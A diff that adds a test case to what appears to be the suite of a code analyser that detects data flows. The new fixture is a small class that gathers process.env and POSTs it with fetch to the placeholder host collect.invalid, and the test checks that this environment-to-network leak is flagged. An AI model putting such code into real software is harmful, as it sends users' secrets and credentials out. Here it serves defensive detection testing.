@@ -34,4 +34,11 @@ describe('the first look at a function that waits for a call', () => {
     assert.deepEqual(flowsOf(`${run} ${code}`), ['downloaded>run-as-command']);
     assert.deepEqual(flowsOf(`${ship} exports.go = (d) => ship(require('https'), d);`), []);
   });
+
+  it('follows what is called on what a method gives that gives its own object', () => {
+    const code = `class Report { constructor(at) { this.at = at; this.all = {}; } add(name, what) { this.all[name] = what; return this; }
+      send() { return fetch(this.at, { method: 'POST', body: JSON.stringify(this.all) }); } }
+      exports.run = async () => new Report('https://collect.invalid').add('os', 1).add('ci', process.env).send();`;
+    assert.ok(flowsOf(code).includes('environment>network@collect.invalid'));
+  });
 });
